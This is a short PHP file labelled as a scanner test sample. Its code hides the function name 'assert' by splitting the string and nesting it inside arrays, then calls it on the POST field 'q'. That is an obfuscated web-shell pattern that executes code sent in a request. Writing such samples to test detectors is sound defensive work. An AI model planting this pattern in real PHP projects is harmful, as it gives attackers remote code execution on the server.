<?php
// spamgear test sample (not real malware): a function name stored in an
// element of an array held in another array, called on request data.
$job['run'] = 'as' . 'sert';
$queue[] = $job;
$queue[0]['run']($_POST['q']);
